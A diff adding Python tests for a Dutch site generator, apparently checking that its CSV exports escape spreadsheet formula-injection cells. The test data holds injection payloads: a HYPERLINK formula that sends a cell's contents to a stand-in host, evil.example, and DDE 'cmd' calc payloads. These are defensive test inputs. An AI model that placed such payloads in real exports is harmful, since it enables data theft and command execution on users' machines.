@@ -290,3 +290,60 @@ def test_csv_files_for_the_site_match_the_report() -> None:
     assert set(files) == {f"rapport/{name}" for name in csv_tables(rapport_data(kaart))}
     index_ctx = dict(rapport_pages(kaart))["rapport/index.html"]
     assert [f"rapport/{n}" for n in index_ctx["csv_bestanden"]] == list(files)
+
+
+# --------------------------------------------------------------------------- formula injection
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1;"Klik")', "+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]
+
+
+def _formula_cell(cell: str) -> bool:
+    """What a spreadsheet runs as a formula (checked here without generator.csvsafe)."""
+    import re
+
+    first = cell.lstrip()
+    if cell[:1] in ("\t", "\r"):
+        return True
+    return first[:1] in ("=", "+", "-", "@") and not re.fullmatch(r"[+-]?(\d+([.,]\d+)?)?", first)
+
+
+def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    content = tmp_path / "content"
+    shutil.copytree(FIXTURES, content)
+    for i, title in enumerate(FORMULAS):  # stale and without contact: in two CSV files
+        (content / f"activiteiten/vechtstad/formule-{i}.yaml").write_text(
+            f"titel: {json.dumps(title)}\nsamenvatting: Test.\nplek: buurthuis-de-brug\n"
+            "laatst_gecontroleerd: 2020-01-01\nbron: Test\n", encoding="utf-8")
+    gemeente = content / "gemeenten/heuveldorp.yaml"
+    gemeente.write_text(gemeente.read_text(encoding="utf-8").replace(
+        "naam: Heuveldorp", 'naam: "=1+1"'), encoding="utf-8")
+    kaart = kaart_on(LATER, content=content)
+    tables = [(tmp_path / "uit" / p.name).read_text(encoding="utf-8-sig")
+              for p in write_csv(rapport_data(kaart), tmp_path / "uit")]
+    tables += [raw.decode("utf-8-sig") for _, raw in rapport_csv_files(kaart)]
+    cells = [c for text in tables for row in csv.reader(text.splitlines(), delimiter=";")
+             for c in row]
+    assert [c for c in cells if c and _formula_cell(c)] == []
+    for title in FORMULAS:  # still there, readable, as text
+        assert "'" + title in cells, title
+    assert "'=1+1" in cells  # the gemeente name
+
+
+def test_safe_cell() -> None:
+    from generator.csvsafe import csv_text, safe_cell
+
+    for risky in ("=A1", "+A1", "-A1", "@A1", "\tx", "\r=1", " =1+1", "\n@SUM(A1)", "-2+3",
+                  "+31 6 12345678"):
+        assert safe_cell(risky) == "'" + risky, risky
+    for plain in ("-2", "+3", "-2,50", "12.5", "0", "", "-", "Koffie", "a=b", "'=1"):
+        assert safe_cell(plain) == plain, plain
+    assert csv_text([["=1", 2, None]]) == "'=1;2;\r\n"
+
+
+def test_every_csv_writer_goes_through_csvsafe() -> None:
+    generator = ROOT / "generator"
+    writers = sorted(p.name for p in generator.rglob("*.py")
+                     if any(w in p.read_text(encoding="utf-8")
+                            for w in ("csv.writer(", "csv.DictWriter(", "csv.writer ")))
+    assert writers == ["csvsafe.py"]
